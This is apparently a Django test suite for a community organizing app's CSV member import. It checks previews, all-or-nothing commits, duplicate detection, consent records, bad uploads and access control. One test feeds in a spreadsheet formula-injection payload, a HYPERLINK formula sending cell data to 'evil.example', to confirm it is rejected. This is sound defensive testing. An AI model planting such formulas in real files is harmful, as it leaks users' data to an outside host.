"""CSV import: a preview of every row, nothing written before the organizer confirms,
all-or-nothing, no twins, and a clear message for any file we cannot use."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from committees.access import load_viewer
from members import services
from members.consent import (
    Channel,
    ConsentEvent,
    ConsentSource,
    Purpose,
    consent_record,
    may_contact,
)
from members.models import ImportBatch, Person

from ..factories import PersonFactory, ZoneFactory

HEADER = ["name", "phone", "email", "language", "zone", "skills"]


def people_csv(rows, header=HEADER, bom=False, delimiter=","):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(rows)
    return ("\ufeff" if bom else "") + buffer.getvalue()


def thousand_rows():
    return [
        [
            f"Vecina {n}",
            f"(424) 555-{n:04d}",
            f"vecina{n}@example.org",
            "Spanish" if n % 2 else "English",
            "Zone 3" if n % 3 else "Zone 1",
            "interpreter; driver" if n % 5 == 0 else "",
        ]
        for n in range(1000)
    ]


def upload(client, text, name="people.csv"):
    data = text.encode() if isinstance(text, str) else text
    return client.post(
        reverse("members:import_upload"), {"file": SimpleUploadedFile(name, data, "text/csv")}
    )


def confirm(client, batch_id, **extra):
    data = {"existing": "update", "wording_language": "en", **extra}
    return client.post(reverse("members:import_detail", args=[batch_id]), data)


def imported_people(committee):
    return Person.objects.filter(committee=committee, preferred_name__startswith="Vecina")


@pytest.fixture
def zones(committee):
    return [ZoneFactory(committee=committee, name=name) for name in ("Zone 1", "Zone 3")]


def test_thousand_rows_with_three_bad_ones_import_nothing_until_corrected_then_all(
    coordinator, client_for, zones
):
    client = client_for(coordinator)
    committee = coordinator.committee
    rows = thousand_rows()
    rows[10][1] = "555-12"  # a bad phone
    rows[500][4] = "Zone 99"  # an unknown zone
    rows[900][2] = "vecina5@example.org"  # the same email as row 5 of the file

    response = upload(client, people_csv(rows))
    assert response.status_code == 302
    batch = ImportBatch.objects.get()
    preview = client.get(response["Location"])
    body = preview.content.decode()
    assert preview.status_code == 200
    assert batch.error_count == 3 and batch.new_count == 997
    assert "Row 12" in body and "“555-12” is not a valid phone number." in body
    assert "Row 502" in body and "Unknown zone “Zone 99”." in body
    assert "Row 902" in body and "Same phone or email as row 7 of this file." in body
    assert not imported_people(committee).exists()

    # Confirming anyway writes nothing: the file must be corrected first.
    confirm(client, batch.pk)
    assert not imported_people(committee).exists()

    rows[10][1] = "(424) 555-0010"
    rows[500][4] = "Zone 3"
    rows[900][2] = "vecina900@example.org"
    response = upload(client, people_csv(rows))
    batch = ImportBatch.objects.latest("created_at")
    assert batch.error_count == 0 and batch.new_count == 1000
    assert not imported_people(committee).exists()  # still only a preview
    response = confirm(client, batch.pk)
    assert response.status_code == 302
    assert imported_people(committee).count() == 1000
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.IMPORTED and batch.payload is None
    vecina = imported_people(committee).get(preferred_name="Vecina 500")
    assert vecina.phone == "+14245550500"
    assert [z.name for z in vecina.zones.all()] == ["Zone 3"]
    assert sorted(s.slug for s in vecina.skills.all()) == ["driver", "interpreter"]
    assert vecina.language == "en"

    # The same file again: every row is recognised, nothing is created twice.
    upload(client, people_csv(rows))
    again = ImportBatch.objects.latest("created_at")
    assert again.new_count == 0 and again.unchanged_count == 1000
    confirm(client, again.pk)
    assert imported_people(committee).count() == 1000
    assert Person.objects.filter(committee=committee).count() == 1001  # and the coordinator


def test_row_errors_are_shown_in_the_organizers_language(coordinator, client_for, zones):
    coordinator.person.user.language = "es"
    coordinator.person.user.save()
    client = client_for(coordinator)
    response = upload(
        client,
        people_csv(
            [["Ana", "12", "", "", "Zona 9", ""]],
            header=["nombre", "teléfono", "correo", "idioma", "zona", "habilidades"],
        ),
    )
    body = client.get(response["Location"]).content.decode()
    assert "“12” no es un número de teléfono válido." in body
    assert "Zona desconocida “Zona 9”." in body


def test_excel_bom_and_spanish_headers_with_semicolons_are_read(coordinator, client_for, zones):
    client = client_for(coordinator)
    text = people_csv(
        [["Lupe", "213-555-0101", "lupe@example.org", "español", "Zone 1", "Intérprete (oral)"]],
        header=["Nombre", "Teléfono", "Correo electrónico", "Idioma", "Zona", "Habilidades"],
        bom=True,
        delimiter=";",
    )
    response = upload(client, text)
    batch = ImportBatch.objects.get()
    assert response.status_code == 302 and batch.error_count == 0
    confirm(client, batch.pk)
    lupe = Person.objects.get(preferred_name="Lupe")
    assert lupe.email == "lupe@example.org" and lupe.language == "es"
    assert [s.slug for s in lupe.skills.all()] == ["interpreter"]


def test_someone_already_in_the_directory_is_offered_for_update_not_twinned(
    coordinator, client_for, zones
):
    committee = coordinator.committee
    existing = PersonFactory(committee=committee, preferred_name="Rosa")
    existing.set_contact(phone="+12135550142", email="")
    existing.save()
    client = client_for(coordinator)
    upload(
        client,
        people_csv([["Rosa M.", "+1 213 555 0142", "rosa@example.org", "", "Zone 1", "medic"]]),
    )
    batch = ImportBatch.objects.get()
    assert (batch.new_count, batch.update_count) == (0, 1)
    preview = client.get(reverse("members:import_detail", args=[batch.pk])).content.decode()
    assert "Already in the directory" in preview and "Rosa" in preview

    confirm(client, batch.pk, existing="skip")
    existing.refresh_from_db()
    assert existing.preferred_name == "Rosa" and not existing.email

    upload(
        client,
        people_csv([["Rosa M.", "+1 213 555 0142", "rosa@example.org", "", "Zone 1", "medic"]]),
    )
    confirm(client, ImportBatch.objects.latest("created_at").pk, existing="update")
    existing.refresh_from_db()
    assert Person.objects.filter(committee=committee, phone_hash=existing.phone_hash).count() == 1
    assert existing.preferred_name == "Rosa M." and existing.email == "rosa@example.org"
    assert [s.slug for s in existing.skills.all()] == ["medic"]


def test_import_consent_is_recorded_with_source_import_and_never_overrides_a_no(
    coordinator, client_for, zones
):
    committee = coordinator.committee
    said_no = PersonFactory(committee=committee, preferred_name="Said No")
    said_no.set_contact(phone="+12135550150")
    said_no.save()
    consent_record(
        person=said_no,
        purpose=Purpose.RAID_ALERTS,
        channel=Channel.SMS,
        granted=False,
        wording="STOP",
        language="es",
        source=ConsentSource.SMS_KEYWORD,
    )
    client = client_for(coordinator)
    upload(
        client,
        people_csv(
            [
                ["Sí Acepta", "(213) 555-0151", "", "", "", "", "sí"],
                ["No Acepta", "(213) 555-0152", "", "", "", "", "no"],
                ["Said No", "(213) 555-0150", "", "", "", "", "yes"],
            ],
            header=HEADER + ["consentimiento"],
        ),
    )
    batch = ImportBatch.objects.get()
    wording = "Acepto recibir alertas de redadas por mensaje de texto."
    response = confirm(
        client,
        batch.pk,
        consent=["raid_alerts:sms"],
        wording=wording,
        wording_language="es",
        confirm="on",
    )
    assert response.status_code == 302

    accepted = Person.objects.get(preferred_name="Sí Acepta")
    event = ConsentEvent.objects.get(person=accepted)
    assert (event.source, event.wording, event.language) == ("import", wording, "es")
    assert event.recorded_by == coordinator.person
    assert may_contact(person=accepted, purpose=Purpose.RAID_ALERTS, channel=Channel.SMS)
    declined = Person.objects.get(preferred_name="No Acepta")
    assert not may_contact(person=declined, purpose=Purpose.RAID_ALERTS, channel=Channel.SMS)
    assert not may_contact(person=said_no, purpose=Purpose.RAID_ALERTS, channel=Channel.SMS)


def test_consent_needs_the_wording_and_a_confirmation(coordinator, client_for, zones):
    client = client_for(coordinator)
    upload(client, people_csv([["Solo", "(213) 555-0160", "", "", "", ""]]))
    batch = ImportBatch.objects.get()
    response = confirm(client, batch.pk, consent=["news:email"])
    assert response.status_code == 400
    body = response.content.decode()
    assert "Copy here the wording printed on the sign-up sheet." in body
    assert not Person.objects.filter(preferred_name="Solo").exists()


def test_import_commit_is_all_or_nothing(coordinator, zones):
    """A person matching a row added after the preview makes the commit refuse
    entirely; nothing of the file is written."""
    viewer = load_viewer(coordinator.person.user)
    text = people_csv(
        [
            ["Uno", "(213) 555-0171", "a@example.org", "", "", ""],
            ["Dos", "(213) 555-0172", "b@example.org", "", "", ""],
        ]
    )
    batch = services.import_preview(actor=viewer, upload=SimpleUploadedFile("p.csv", text.encode()))
    # Meanwhile someone else saves one email for a different phone: the row now matches
    # two people, and the import must not guess.
    other = PersonFactory(committee=coordinator.committee, preferred_name="Otra")
    other.set_contact(phone="+12135550199", email="b@example.org")
    other.save()
    twin = PersonFactory(committee=coordinator.committee, preferred_name="Gemela")
    twin.set_contact(phone="+12135550172", email="")
    twin.save()
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        services.import_commit(actor=viewer, batch=batch, update_existing=True, consent=None)
    assert not Person.objects.filter(preferred_name__in=["Uno", "Dos"]).exists()


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", "photo.csv", "not a CSV text file"),
        (b"PK\x03\x04\x14\x00\x06\x00", "people.xlsx", "This is an Excel workbook"),
        ("name,phone\nJosé,2135550100\n".encode("latin-1"), "people.csv", "not in UTF-8"),
        (b"", "empty.csv", "The submitted file is empty."),
        (b"\n\n", "blank.csv", "The file is empty."),
        (b"color,size\nred,big\n", "shirts.csv", "We could not find the columns we need."),
        (b"name,nombre\nA,B\n", "twice.csv", "appears twice"),
        (b"name,phone\n", "header-only.csv", "no people"),
    ],
)
def test_garbage_upload_gets_a_clear_message(coordinator, client_for, content, name, message):
    client = client_for(coordinator)
    response = upload(client, content, name=name)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not ImportBatch.objects.exists()


def test_a_50_megabyte_upload_is_refused_before_it_is_read(coordinator, client_for):
    client = client_for(coordinator)
    big = b"name,phone\n" + b"x" * (50 * 1024 * 1024)
    response = upload(client, big)
    assert response.status_code == 413
    assert "The file is too large. The limit is 5.0" in response.content.decode()
    assert not ImportBatch.objects.exists()


def test_a_file_just_over_the_limit_is_refused_too(coordinator, client_for):
    """Without a Content-Length that gives it away, the size is checked on the file."""
    viewer = load_viewer(coordinator.person.user)
    from lib.csv_io import CsvFileError

    with pytest.raises(CsvFileError, match="too large"):
        services.import_preview(
            actor=viewer,
            upload=SimpleUploadedFile("big.csv", b"name\n" + b"a" * (5 * 1024 * 1024)),
        )


def test_formula_in_a_name_is_a_row_error_and_nothing_is_imported(coordinator, client_for):
    client = client_for(coordinator)
    upload(
        client,
        people_csv(
            [
                [
                    '=HYPERLINK("http://evil.example/?"&A1,"click")',
                    "(213) 555-0190",
                    "",
                    "",
                    "",
                    "",
                ],
                ["@SUM(1+1)", "(213) 555-0191", "", "", "", ""],
                ["Normal", "+1 (213) 555-0192", "", "", "", ""],
            ]
        ),
    )
    batch = ImportBatch.objects.get()
    assert batch.error_count == 2
    body = client.get(reverse("members:import_detail", args=[batch.pk])).content.decode()
    assert "which spreadsheets run as a formula" in body
    assert "<a href" not in body.split("Rows with problems")[1].split("</section>")[0]
    confirm(client, batch.pk)
    assert not Person.objects.filter(preferred_name="Normal").exists()


def test_only_importers_may_upload(vetted_member, client_for):
    client = client_for(vetted_member)
    response = upload(client, people_csv([["A", "(213) 555-0100", "", "", "", ""]]))
    assert response.status_code == 403
    assert not ImportBatch.objects.exists()


def test_another_committees_preview_is_a_404(coordinator, outsider, client_for):
    viewer = load_viewer(coordinator.person.user)
    batch = services.import_preview(
        actor=viewer, upload=SimpleUploadedFile("p.csv", b"name,phone\nA,(213) 555-0100\n")
    )
    response = client_for(outsider).get(reverse("members:import_detail", args=[batch.pk]))
    assert response.status_code == 404


def test_expired_previews_are_purged_with_their_rows(coordinator):
    from datetime import timedelta

    from django.utils import timezone

    viewer = load_viewer(coordinator.person.user)
    batch = services.import_preview(
        actor=viewer, upload=SimpleUploadedFile("p.csv", b"name,phone\nA,(213) 555-0100\n")
    )
    ImportBatch.objects.filter(pk=batch.pk).update(expires_at=timezone.now() - timedelta(1))
    from members.tasks import import_batches_purge

    assert import_batches_purge() == 1
    batch.refresh_from_db()
    assert batch.payload is None and batch.status == ImportBatch.Status.DISCARDED


def test_unused_columns_are_named_in_the_preview_and_kept_encrypted(coordinator, client_for):
    client = client_for(coordinator)
    upload(client, "name,phone,Shirt size\nAnastasia Quintero,(213) 555-0193,M\n")
    batch = ImportBatch.objects.get()
    page = client.get(reverse("members:import_detail", args=[batch.pk])).content.decode()
    assert "Columns we did not use: Shirt size" in page
    from django.db import connection

    with connection.cursor() as cursor:
        cursor.execute("SELECT payload FROM members_importbatch")
        stored = cursor.fetchone()[0]
    assert "Shirt size" not in stored and "Anastasia Quintero" not in stored


def test_upload_still_needs_the_csrf_token(coordinator):
    """The upload view checks CSRF itself, after the size check (see import_upload)."""
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(coordinator.person.user)
    response = upload(client, "name,phone\nA,(213) 555-0100\n")
    assert response.status_code == 403
    assert not ImportBatch.objects.exists()
